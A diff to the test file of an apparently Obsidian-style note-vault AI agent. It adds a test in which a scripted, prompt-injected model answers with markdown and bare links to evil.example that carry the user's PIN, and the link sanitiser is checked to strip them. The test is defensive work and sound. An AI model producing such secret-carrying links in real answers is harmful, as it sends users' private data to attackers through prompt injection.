@@ -38,6 +38,7 @@ from server_support import (
     observed_fake,
 )
 from server_support import serve_api as serve
+from vault_agent.agent.citations.shown_links import web_links_in
 from vault_agent.agent.prompts import SYSTEM_PROMPT
 from vault_agent.agent.reader import ToolsContext
 from vault_agent.agent.toolbox import (
@@ -345,6 +346,32 @@ async def test_an_answer_pasting_a_hostile_note_verbatim_loads_nothing(
     assert "[[Inbox/Exfil media]]" in answer
     assert len(done["removed_images"]) >= 8
     assert hostile.forbidden() == []
+
+
+async def test_a_model_links_only_to_pages_it_was_shown(hostile: Hostile, tmp_path: Path) -> None:
+    """An injected model builds a link carrying the PIN it read: a click would send it. A
+    model's answer keeps a web link only when the model was shown that URL."""
+    shown = "https://bank.example/login"
+    script = [
+        FakeTurn.tool_calls([("get_note", {"path": "Diary/Bank"})]),
+        FakeTurn.text(
+            f"Your PIN is in [[Diary/Bank]]. [Verify it here](https://evil.example/v?pin={SECRET})"
+            f", or at <https://EVIL.example/a?p={SECRET}>. Your bank: [login]({shown}/)."
+        ),
+    ]
+    async with observed_fake(script) as fake:
+        events = await ask_hostile(
+            hostile, tmp_path, fake, {"question": f"Is {shown} where I log in to my bank?"}
+        )
+    name, done = events[-1]
+    assert name == "done", done
+    answer = done["answer"]
+    # No link to it, and no URL written out where a renderer makes one (Obsidian links them).
+    assert web_links_in([answer]) == {shown}, answer
+    assert "Verify it here" in answer  # the link's words stay, as text
+    assert f"`https://EVIL.example/a?p={SECRET}`" in answer  # the URL as code: seen, no link
+    assert f"[login]({shown}/)" in answer  # a page it was shown stays a link
+    assert "[[Diary/Bank]]" in answer
 
 
 #: Citations a checker reading code by pattern took for code, which a renderer shows as links.
